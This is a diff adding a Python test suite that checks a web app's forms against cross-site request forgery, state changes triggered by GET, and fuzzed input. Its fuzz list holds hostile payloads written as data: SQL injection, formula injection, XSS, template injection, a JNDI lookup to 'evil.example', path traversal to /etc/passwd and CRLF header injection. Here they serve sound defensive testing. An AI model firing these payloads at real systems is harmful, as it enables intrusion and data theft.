@@ -1,0 +1,166 @@
+"""Every form there is: sent from elsewhere, and sent with nonsense."""
+
+import os
+
+import pytest
+from hypothesis import HealthCheck, Phase, given, settings
+from hypothesis import strategies as st
+
+from shell.projector import Projector
+from tests.architecture.test_permissions import World
+from tests.security.walking import Field, Place, address, come_in, fields, pages, places
+
+# Before whoever is signed in is known, nothing can be forged in their name but that they come in or leave.
+SENT = places("POST", api=False)
+NONSENSE = st.one_of(
+    st.sampled_from(
+        [
+            "",
+            " ",
+            "0",
+            "-1",
+            "1e9",
+            "NaN",
+            "９９",
+            "9" * 400,
+            "0" * 5000,
+            "'; DROP TABLE workers; --",
+            "=cmd|'/c calc'!A1",
+            "<script>alert(1)</script>",
+            "{{7*7}}",
+            "${jndi:ldap://evil.example}",
+            "../../etc/passwd",
+            "\u202e\u200bxyz",
+            "a\r\nSet-Cookie: x=1",
+            "2026-02-30",
+            "9999-12-31",
+            "0001-01-01",
+            "\U0001f9e7" * 70,
+            "%00",
+            "é́́",
+        ]
+    ),
+    st.text(st.characters(exclude_categories=["Cs"], exclude_characters="\0"), max_size=40),
+)
+
+
+@pytest.fixture(scope="module")
+def forms(world: World) -> dict[str, dict[str, Field]]:
+    """By place: the fields of its form, gathered from all pages."""
+    gathered: dict[str, dict[str, Field]] = {}
+    markup = [answer.text for _, answer in pages(world) if answer.mimetype == "text/html"]
+    for place in SENT:
+        found = gathered.setdefault(str(place), {})
+        for page in markup:
+            found |= fields(page, address(world, place))
+    return gathered
+
+
+def test_every_form_is_refused_when_it_is_not_ours(world: World) -> None:
+    """Posted by another site in the name of somebody signed in, without the proof: nothing happens."""
+    world.app.config["WTF_CSRF_METHODS"] = {"POST", "PUT", "PATCH", "DELETE"}
+    try:
+        answers = {}
+        for place in SENT:
+            client, along = come_in(world, place)
+            said = {k: v for k, v in (place.form or {}).items() if v != "{file}"}
+            head = world.house.store.head()
+            answer = client.post(address(world, place), data=said, **along)
+            answers[str(place)] = (
+                answer.status_code,
+                "放久了" in answer.text,
+                world.house.store.head() - head,
+            )
+    finally:
+        world.app.config["WTF_CSRF_METHODS"] = set()
+    assert len(answers) >= 20
+    assert {key: said for key, said in answers.items() if said != (400, True, 0)} == {}
+
+
+def test_no_form_can_be_sent_by_asking(world: World) -> None:
+    """What changes something is never done by a GET that a link or a picture could trigger."""
+    links = []
+    for place in SENT:
+        client, along = come_in(world, place)
+        head = world.house.store.head()
+        at = address(world, place).partition("?")[0]
+        client.get(at, query_string=dict(place.form or {}), **along)
+        if world.house.store.head() != head:
+            links.append(str(place))
+    assert links == []
+
+
+BOUNDED = settings(
+    max_examples=int(os.environ.get("EXAMPLES", "12")),
+    deadline=None,
+    derandomize=True,
+    database=None,
+    phases=[Phase.generate],
+    suppress_health_check=list(HealthCheck),
+)
+
+
+@pytest.mark.parametrize("place", SENT, ids=str)
+def test_no_nonsense_in_a_form_breaks_anything(
+    world: World, no_proof: None, forms: dict[str, dict[str, Field]], place: Place
+) -> None:
+    """Whatever stands in the fields, hidden ones too: an answer, never an error of ours."""
+    sound = as_served(forms, place)
+    client, along = come_in(world, place)
+
+    @BOUNDED
+    @given(st.dictionaries(st.sampled_from([*sound, "unknown", "id"]), NONSENSE, min_size=1))
+    def send(typed: dict[str, str]) -> None:
+        answer = client.post(address(world, place), data=sound | typed, **along)
+        assert answer.status_code < 500, (answer.status_code, typed)
+
+    send()
+
+
+@pytest.mark.parametrize("place", SENT, ids=str)
+def test_what_was_typed_comes_back(
+    world: World, no_proof: None, forms: dict[str, dict[str, Field]], place: Place
+) -> None:
+    """A form that cannot be taken shows all that was written into it again, wrong or not."""
+    sound = as_served(forms, place)
+    written = [name for name, field in forms[str(place)].items() if field.written]
+    client, along = come_in(world, place)
+    if not written:
+        return  # nothing is written here: it is only pressed
+
+    @BOUNDED
+    @given(st.dictionaries(st.sampled_from(written), NONSENSE, min_size=1))
+    def send(typed: dict[str, str]) -> None:
+        at = address(world, place)
+        answer = client.post(at, data=sound | typed, **along)
+        assert answer.status_code < 500, (answer.status_code, typed)
+        if answer.status_code == 422:
+            shown = fields(answer.text, at)
+            # Where nothing was written, what stood there before may stand there again.
+            told = {name: text for name, text in typed.items() if name in shown and text.strip()}
+            assert {name: shown[name].value.strip() for name in told} == {
+                name: text.strip() for name, text in told.items()
+            }
+
+    send()
+
+
+def as_served(forms: dict[str, dict[str, Field]], place: Place) -> dict[str, str]:
+    """What a form would send if nothing were changed in it."""
+    example = {name: str(value) for name, value in (place.form or {}).items() if value != "{file}"}
+    return {name: field.value for name, field in forms[str(place)].items()} | example
+
+
+def test_no_form_stops_a_read_model(world: World, no_proof: None) -> None:
+    """After all of the above every read model has taken in what happened."""
+    projector = Projector(world.house)
+    projector.catch_up()
+    assert [follower.error for follower in projector.followers if follower.error] == []
+
+
+def test_a_sign_that_no_store_takes_is_refused_at_every_form(world: World, no_proof: None) -> None:
+    """NUL can be neither typed nor stored: 400 before anybody looks at the form."""
+    for place in SENT:
+        client, along = come_in(world, place)
+        answer = client.post(address(world, place), data={"name": "a\0b"}, **along)
+        assert answer.status_code == 400, str(place)
